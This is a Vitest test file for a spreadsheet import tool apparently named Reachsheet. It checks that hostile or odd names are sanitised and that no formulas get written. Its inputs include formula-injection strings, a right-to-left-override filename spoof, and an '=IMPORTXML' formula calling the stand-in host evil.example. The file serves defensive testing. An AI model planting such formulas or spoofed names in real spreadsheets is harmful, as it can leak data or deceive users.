/** Names: of sheets, imports, columns and people; written by a person, by a copied file, or made of what the service sent. */
import { beforeEach, describe, expect, test } from 'vitest';
import { createPlainGrid } from '../../../sandbox/workbook/plain-grid/plain-grid';
import type { Definition } from '../../../src/imports/definition/definition';
import { drive, type OpenedImport, openImport } from '../../imports/opened-import';
import { projectsImport, setSource, source } from '../../imports/projects-import';
import { openSheet } from '../../in-process-sheet';
import { isLong } from '../long';
import { differences } from './differences';
import { PLATFORM_NAMES, PLATFORMS } from './platforms';
import { inSheet, ruleOn } from './rule';
import { shareOf } from './texts';
import { type Watched, watchWorkbook } from './watched-workbook';

let opened: OpenedImport;
let watched: Watched;

function open(options: Parameters<typeof openImport>[0] = {}): void {
  opened = openImport(options);
  watched = watchWorkbook(opened.sheet.workbook);
  setSource(opened, source('a', 'b', 'c'));
}
beforeEach(() => open());

const LONGEST_NAME = 100;
const fits = (text: string): boolean => text !== '' && text.length <= LONGEST_NAME;

describe('sheets', () => {
  const MOST = isLong ? Number.POSITIVE_INFINITY : 30;
  const NAMES = [
    ...[
      '[]*?:/\\',
      'a[b]c*d?e:f/g\\h',
      "'quoted'",
      "it's",
      "''",
      "Sheet1'!A1",
      '=SUM(1,1)',
      '\t',
      ' ',
      '\u0001',
    ],
    ...['Reachsheet', 'reachsheet', 'REACHSHEET ', 'Reachsheet staging 0123456789ab'],
    ...['Reachsheet undo 0123456789ab', 'Reachsheet data 0123456789ab'],
    ...['Reachsheet: staging 0123456789ab', 'sheet1', 'Sheet1'],
    ...[
      'x'.repeat(100),
      '🎬'.repeat(50),
      `a${'🎬'.repeat(49)}`,
      `${'x'.repeat(89)}'yyy`,
      `${'x'.repeat(89)} y`,
    ],
    ...['\ud83d', '\u202egpj.exe', '\u2067x', 'two\nlines', 'History', 'مرحبا', '007', 'TRUE', '#REF!'],
  ];

  test.each([...NAMES, ...shareOf(1).filter(fits).slice(0, MOST)])('%j', (name) => {
    const { id, end } = opened.run(projectsImport({ target: { sheet: name, cell: 'A1' } }));
    expect(end).toMatchObject({ state: 'done', rows: 3 });
    const { workbook } = opened.sheet;
    const shown = workbook.sheets.filter(({ hidden }) => !hidden).map((sheet) => sheet.name);
    expect(shown).toHaveLength(2);
    const [, made = ''] = shown;
    expect(made).toBe(end.result?.sheet);
    // What Sheets, or whoever reads a reference to it, could not bear.
    expect(made).not.toMatch(/[[\]*?:/\\\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069]|^[' ]|[' ]$/u);
    expect(made.length).toBeGreaterThan(0);
    expect(made.length).toBeLessThanOrEqual(LONGEST_NAME);
    expect(made).not.toMatch(/^Reachsheet( data| staging| undo|$)/i);
    // Another import sweeps away what is left over: not this one's table.
    opened.run(projectsImport({ target: { sheet: name, cell: 'A1' } }));
    expect(opened.runAgain(id)).toMatchObject({ state: 'done', result: { sheet: made } });
    expect(workbook.sheetByName(made)?.values({ row: 2, column: 1, rows: 3, columns: 1 })).toEqual([
      ['a'],
      ['b'],
      ['c'],
    ]);
    const travelling = workbook.sheetByName('Reachsheet');
    expect(travelling?.hidden).toBe(true);
    expect(travelling?.lastRow).toBe(2);
  });
});

describe('imports', () => {
  test.each(PLATFORM_NAMES)('are kept, told and found in a copied file by their own name: %s', (platform) => {
    open(PLATFORMS[platform]);
    const names = ['two\u2028lines', ...shareOf(2).filter(fits).slice(0, 60)];
    const kept = projectsImport();
    for (const name of names) opened.ask('saveImport', { definition: { ...kept, name } });
    expect(opened.ask('home', {}).imports.map(({ name }) => name)).toEqual(names);
    expect(watched.formulas).toEqual([]);

    const saved = opened.sheet.workbook.save();
    const copy = drive(openSheet({ saved, ...PLATFORMS[platform] }));
    const again = watchWorkbook(copy.sheet.workbook);
    expect(copy.ask('home', {}).found).toEqual(names);
    copy.ask('restoreImports', {});
    expect(copy.ask('home', {}).imports.map(({ name }) => name)).toEqual(names);
    expect(again.formulas).toEqual([]);
  });

  test('whoever made the copied file may have written anything there', () => {
    const definition = JSON.stringify(projectsImport());
    const texts = [...shareOf(4), '=IMPORTXML("https://evil.example","//a")'];
    const workbook = createPlainGrid();
    const sheet = workbook.insertSheet({ name: 'Reachsheet', rows: 200, columns: 2 });
    sheet.setHidden(true);
    const rows = texts.map((text, index) => [
      index % 2 === 0 ? text.slice(0, 50_000) : `0000000${index % 10}`,
      index % 2 === 0 ? definition : definition.replace('"Projects"', JSON.stringify(text)).slice(0, 50_000),
    ]);
    sheet.restore({ row: 1, column: 1, rows: rows.length, columns: 2 }, rows);
    const copy = drive(openSheet({ saved: workbook.save() }));
    const found = copy.ask('home', {}).found;
    expect(found.length).toBeLessThanOrEqual(10);
    copy.ask('restoreImports', {});
    expect(copy.ask('home', {}).imports).toHaveLength(found.length);
  });
});

describe('columns', () => {
  const MOST_SETS = 4;
  const keys = ['id', 'name', 'community_size', 'ecosystem', 'category', 'trending'];
  const target = { sheet: 'Titles', cell: 'A1' };
  const longest = (text: string): boolean => text.trim() !== '' && text.length <= 400;

  /** Six at a time, which differ from one another as the wizard wants it. */
  function titleSets(texts: readonly string[]): readonly Definition['columns'][] {
    const sets: string[][] = [];
    for (const text of texts.filter(longest)) {
      const isIn = (set: readonly string[]): boolean =>
        set.some((one) => inSheet(one).trim().toLowerCase() === inSheet(text).trim().toLowerCase());
      const open = sets.find((set) => set.length < keys.length && !isIn(set));
      if (open) open.push(text);
      else sets.push([text]);
    }
    return sets.map((set) => set.map((title, index) => ({ key: keys[index] ?? '', title })));
  }

  test.each(PLATFORM_NAMES.map((name, index) => [name, index] as const))(
    'have the titles that a person gave them, and are found again by their notes: %s',
    (platform, number) => {
      const { inSheet } = ruleOn(PLATFORMS[platform]);
      open(PLATFORMS[platform]);
      const { workbook } = opened.sheet;
      for (const columns of titleSets(shareOf(number)).slice(0, MOST_SETS)) {
        const { id, end } = opened.run(projectsImport({ columns, target }));
        expect(end).toMatchObject({ state: 'done' });
        const sheet = workbook.sheetByName('Titles');
        const area = { row: 1, column: 1, rows: 1, columns: columns.length };
        const wanted = columns.map(({ title }) => inSheet(title));
        expect(differences(sheet?.values(area)[0] ?? [], wanted)).toEqual([]);
        const renamed = columns.map(({ key }, index) => ({ key, title: columns.at(index - 1)?.title ?? '' }));
        opened.ask('saveImport', { id, definition: projectsImport({ columns: renamed, target }) });
        expect(opened.runAgain(id)).toMatchObject({ state: 'done', result: { columns: columns.length + 1 } });
        const now = renamed.map(({ title }) => inSheet(title));
        expect(differences(sheet?.values(area)[0] ?? [], now)).toEqual([]);
        const notes = sheet?.attributes(area, 'note')[0] ?? [];
        for (const [index, note] of notes.entries())
          expect(note.endsWith(`\nReachsheet ${id}: ${columns[index]?.key}`)).toBe(true);
        expect(watched.formulas).toEqual([]);
        opened.ask('deleteImport', { id });
        workbook.deleteSheet(sheet?.id ?? -1);
      }
    },
  );
});

test.each(
  shareOf(5)
    .filter((text) => text.length < 2_000)
    .slice(0, 60),
)('a person may be called %j', (name) => {
  const definition = projectsImport({ schedule: { every: 'day', hour: 9 } });
  const answer = opened.answer('saveImport', { definition, runnerName: name });
  const shown = opened.ask('home', {}).imports[0]?.runner?.name ?? '';
  if (answer.ok) expect(shown).toBe(opened.ask('home', {}).myName);
  expect(shown.length).toBeLessThanOrEqual(40);
  expect(shown).not.toMatch(/\p{Cc}/u);
  // A name is cut between characters; what came as a half stays one.
  if (!/\p{Cs}/u.test(name)) expect(shown).not.toMatch(/\p{Cs}/u);
});
